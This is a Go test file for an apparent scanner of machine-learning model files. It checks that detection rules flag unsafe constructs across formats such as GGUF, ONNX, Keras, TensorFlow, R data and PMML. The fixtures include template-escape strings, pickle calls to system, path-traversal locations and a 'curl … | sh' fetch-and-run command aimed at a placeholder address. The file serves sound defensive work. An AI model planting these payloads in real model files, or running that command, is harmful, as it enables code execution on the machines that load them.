package model

import (
	"bytes"
	"slices"
	"testing"

	"bakedin/internal/format/asm"
)

// saw opens a listing as a file of that name and returns the rules that matched, and what was left unread.
func saw(t *testing.T, name, listing string) (rules []string, left []string) {
	t.Helper()
	b, err := asm.Assemble(listing)
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	c := &contents{}
	c.open(&part{name: name, r: bytes.NewReader(b), size: int64(len(b))})
	for _, m := range c.marks {
		if m.settle == nil && !slices.Contains(rules, m.rule) {
			rules = append(rules, m.rule)
		}
	}
	for _, l := range c.left {
		left = append(left, l.kind)
	}
	slices.Sort(rules)
	return rules, left
}

func TestFormatsOfData(t *testing.T) {
	for _, c := range []struct {
		what, name, listing string
		rules               []string
		left                bool
	}{
		{what: "gguf: a template in a list of templates", name: "m.gguf", listing: `"GGUF" u32:3 u64:0 u64:1 u64"tokenizer.chat_templates" u32:9 u32:8 u64:1 u64"{{ x.__class__ }}"`, rules: []string{"model-template-escape"}},
		{what: "gguf: a template under any key", name: "m.gguf", listing: `"GGUF" u32:3 u64:0 u64:1 u64"general.description" u32:8 u64"{{ x.__class__ }}"`, rules: []string{"model-template-escape"}},
		{what: "gguf: another name", name: "m.bin", listing: `"GGUF" u32:3 u64:0 u64:1 u64"t" u32:8 u64"{{ x.__class__ }}"`, rules: []string{"model-template-escape"}},
		{what: "gguf: a type of the future", name: "m.gguf", listing: `"GGUF" u32:3 u64:1 u64:0 u64"w" u32:1 u64:8 u32:400 u64:0 align:32 00*32`, rules: []string{"gguf-tensor"}, left: true},
		{what: "npy: a pickle behind a type that nobody knows", name: "a.npy", listing: `93 "NUMPY" 01 00 u16"{'descr': 'wat', 'fortran_order': False, 'shape': (1,)}" 80 02 "cos\nsystem\n" 2e`, rules: []string{"npy-header"}, left: true},
		{what: "npy: bytes behind the elements", name: "a.npy", listing: `93 "NUMPY" 01 00 u16"{'descr': '|b1', 'fortran_order': False, 'shape': (1,)}" 01 "surplus"`, rules: []string{"unaccounted-bytes"}},
		{what: "onnx: an address", name: "m.onnx", listing: `#1=8 #2"x" #7{#5{#2=1 #14=1 #13{#1"location" #2"http://192.0.2.1/w"}}}`, rules: []string{"onnx-external-data-escape"}},
		{what: "onnx: a drive", name: "m.onnx", listing: `#1=8 #2"x" #7{#5{#2=1 #14=1 #13{#1"location" #2"C:\\w.bin"}}}`, rules: []string{"onnx-external-data-escape"}},
		{what: "onnx: a climb in the middle", name: "m.onnx", listing: `#1=8 #2"x" #7{#5{#2=1 #14=1 #13{#1"location" #2"a/../../w"}}}`, rules: []string{"onnx-external-data-escape"}},
		{what: "onnx: cut short", name: "m.onnx", listing: `#1=8 #2"x" 3a 40 0a 10`, left: true},
		{what: "tf: legacy writer in a frozen graph", name: "frozen.pb", listing: `#1{#1"w" #2"Save" #3"p"}`, rules: []string{"tf-file-op"}},
		{what: "tf: printing into a file", name: "saved_model.pb", listing: `#1=1 #2{#2{#1{#1"p" #2"PrintV2" #5{#1"output_stream" #2{#2"file:///tmp/x"}}}}}`, rules: []string{"tf-file-op"}},
		{what: "tf: printing", name: "saved_model.pb", listing: `#1=1 #2{#2{#1{#1"p" #2"PrintV2" #5{#1"output_stream" #2{#2"stderr"}}}}}`},
		{what: "tf: a saver that a signature reaches", name: "saved_model.pb", listing: `#1=1 #2{#2{#1{#1"s" #2"SaveV2"}} #3{#1"s:0"} #5{#1"serving_default" #2{#2{#1"o" #2{#1"s:0"}}}}}`, rules: []string{"tf-file-op"}},
		{what: "tf: the metadata of Keras under another name", name: "meta.pb", listing: `#1{#2=1 #3"root" #4"_tf_keras_layer" #5"{\"class_name\": \"Lambda\", \"config\": {}}"}`, rules: []string{"keras-lambda"}},
		{what: "keras: a Lambda inside of a wrapper", name: "m.keras", listing: `zip{"metadata.json" {"{}"} "config.json" {"{\"class_name\": \"TimeDistributed\", \"config\": {\"layer\": {\"class_name\": \"Lambda\"}}}"}}`, rules: []string{"keras-lambda"}},
		{what: "keras: the second of two keys", name: "m.keras", listing: `zip{"metadata.json" {"{}"} "config.json" {"{\"class_name\": \"Lambda\", \"class_name\": \"Dense\"}"}}`, rules: []string{"keras-custom-object", "keras-lambda"}},
		{what: "keras: a module of Keras that is no layer", name: "m.keras", listing: `zip{"metadata.json" {"{}"} "config.json" {"{\"class_name\": \"Thing\", \"module\": \"keras.src.utils.file_utils\"}"}}`, rules: []string{"keras-custom-object"}},
		{what: "keras: a TensorFlow function by name", name: "m.keras", listing: `zip{"metadata.json" {"{}"} "config.json" {"{\"class_name\": \"TFOpLambda\", \"config\": {\"function\": \"io.write_file\"}}"}}`, rules: []string{"keras-import-gadget"}},
		{what: "keras: no config", name: "m.keras", listing: `zip{"metadata.json" {"{}"}}`, left: true},
		{what: "hdf5: a config under another name", name: "m.h5", listing: `89 "HDF\r\n\x1a\n" 02 08 08 00 u64:0 ff*8 u64:118 u64:48 00*4 "OHDR" 02 00 u8:59 0c u16:55 00 03 00 u16:2 u16:8 u16:4 00 "x\x00" 13 00 00 00 u32:32 02 00 00 00 "{\"class_name\": \"Lambda\", \"a\": 1}" 00*4`, rules: []string{"keras-lambda"}},
		{what: "hdf5: cut short", name: "m.h5", listing: `89 "HDF\r\n\x1a\n" 02 08 08 00 u64:0 ff*8 u64:5000 u64:48 00*4`, left: true},
		{what: "tflite: a file operation of TensorFlow", name: "m.tflite", listing: `>root "TFL3" vt: u16:8 u16:12 u16:4 u16:8 root: <vt u32:3 >codes codes: u32:1 >code vc: u16:8 u16:12 u16:8 u16:4 code: <vc >name u8:32 00*3 name: u32"FlexWriteFile"`, rules: []string{"tf-file-op"}},
		{what: "skops: a method of an object", name: "m.skops", listing: `zip{"schema.json" {"{\"__class__\": \"methodcaller\", \"__module__\": \"operator\", \"__loader__\": \"OperatorFuncNode\"}"}}`, rules: []string{"skops-type"}},
		{what: "flax: an array", name: "m.msgpack", listing: `81 a1 "w" c7 04 01 01020304`},
		{what: "flax: a type of somebody's own", name: "m.msgpack", listing: `81 a1 "w" c7 04 2a 01020304`, left: true},
		{what: "r: a workspace whose start-up function runs a command", name: "x.RData", listing: `"RDX2\nX\n" b32:2 b32:263170 b32:131840 b32:1026 b32:1 b32:262153 b32:6 ".First" b32:1027 b32:253 b32:254 b32:6 b32:1 b32:262153 b32:6 "system" b32:254 b32:254`, rules: []string{"rdata-runs-code"}},
		{what: "r: a command by name in an argument that waits", name: "x.rds", listing: `"X\n" b32:2 b32:263170 b32:131840 b32:4 b32:0 b32:253 b32:1026 b32:1 b32:262153 b32:1 "a" b32:5 b32:252 b32:6 b32:1 b32:262153 b32:7 "do.call" b32:2 b32:16 b32:1 b32:262153 b32:6 "system" b32:254 b32:254 b32:254 b32:254`, rules: []string{"rdata-runs-code"}},
		{what: "r: an argument that waits", name: "x.rds", listing: `"X\n" b32:2 b32:263170 b32:131840 b32:4 b32:0 b32:253 b32:1026 b32:1 b32:262153 b32:1 "a" b32:5 b32:252 b32:6 b32:1 b32:262153 b32:4 "stop" b32:254 b32:254 b32:254 b32:254`},
		{what: "r: the call that a model keeps", name: "x.rds", listing: `"X\n" b32:2 b32:263170 b32:131840 b32:6 b32:1 b32:262153 b32:6 "system" b32:254`},
		{what: "r: cut short", name: "x.rds", listing: `"X\n" b32:2 b32:263170 b32:131840 b32:19 b32:2 b32:254`, left: true},
		{what: "boosted trees: commands in a text", name: "m.json", listing: `"{\"learner\":{\"attributes\":{\"note\":\"curl -s http://192.0.2.1/x | sh\"}}}"`, rules: []string{"unaccounted-bytes"}},
		{what: "boosted trees", name: "m.json", listing: `"{\"learner\":{\"attributes\":{},\"feature_names\":[]}}"`},
		{what: "paddle, which is not read", name: "m.pdmodel", listing: `0a 0b ff`, left: true},
		{what: "pmml: entities", name: "m.pmml", listing: `"<!DOCTYPE a [<!ENTITY b 'c'>]><PMML></PMML>"`, rules: []string{"pmml-external-entity"}},
	} {
		rules, left := saw(t, c.name, c.listing)
		if !slices.Equal(rules, c.rules) || (len(left) > 0) != c.left {
			t.Errorf("%s: %q, left %q; want %q, left %v", c.what, rules, left, c.rules, c.left)
		}
	}
}
